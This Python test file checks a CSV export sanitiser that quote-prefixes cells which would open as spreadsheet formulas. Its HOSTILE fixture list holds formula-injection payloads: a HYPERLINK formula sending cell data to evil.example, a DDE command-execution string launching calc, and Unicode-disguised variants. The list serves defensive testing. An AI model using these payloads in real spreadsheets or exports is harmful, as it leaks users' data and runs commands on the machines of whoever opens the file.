"""No cell that a spreadsheet opens can be a formula, and every cell is read again as it was written."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from oversight.domain.record import Mode
from oversight.domain.table_cell import MOST_ROWS, cell, csv_lines, is_formula

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"drone")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "|calc",
    "\t=1+1", "\r=1+1", "\n=1+1 drone", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\uff5ccalc", "\ufeff=1+1",
    "\u00a0=1+1", "  =1", "\u200b=1", "\x00=1", "\tplain", "\rplain", "\nplain", "-drone", "\u3000@x", "\x1f\ufeff +1",
]  # fmt: skip
HARMLESS = ["", "drone", "'=1+1", "1-2", "a=b", '"=1+1"', ";=1+1", ",=1+1", "%0A=1", " drone", "é", "100,000"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_gets_a_quote(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert cell(text) == text


def test_values_are_written_as_stored() -> None:
    values = [None, True, False, 7, 0.5, date(2019, 5, 7), datetime(2019, 5, 7, 16, tzinfo=UTC), Mode.LIVE, ("a", "b")]
    expected = ["", "yes", "no", "7", "0.5", "2019-05-07", "2019-05-07T16:00:00+00:00", "live", "a; b"]
    assert [cell(value) for value in values] == expected


def test_a_list_that_begins_like_a_formula_gets_a_quote() -> None:
    assert cell(["=1", "b"]) == "'=1; b"


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=3, max_size=3), max_size=5))
def test_what_is_written_is_read_again(rows: list[list[str]]) -> None:
    text = "".join(csv_lines(["a", "b", "c"], rows))
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read == [["a", "b", "c"], *([cell(one) for one in row] for row in rows)]
    assert not any(is_formula(one) for row in read[1:] for one in row)


def test_every_line_ends_in_crlf_and_quotes_are_doubled() -> None:
    assert list(csv_lines(["a"], [['say "no"'], ["x,y"], ["1\n2"]])) == [
        "a\r\n", '"say ""no"""\r\n', '"x,y"\r\n', '"1\n2"\r\n',
    ]  # fmt: skip


def test_a_file_has_at_most_a_hundred_thousand_rows() -> None:
    assert sum(1 for _ in csv_lines(["a"], ([str(n)] for n in range(MOST_ROWS + 5)))) == MOST_ROWS + 1


def test_lines_are_made_one_at_a_time() -> None:
    asked: list[int] = []
    lines = csv_lines(["a"], ([str(asked.append(n))] for n in range(10)))
    next(lines), next(lines)
    assert asked == [0]
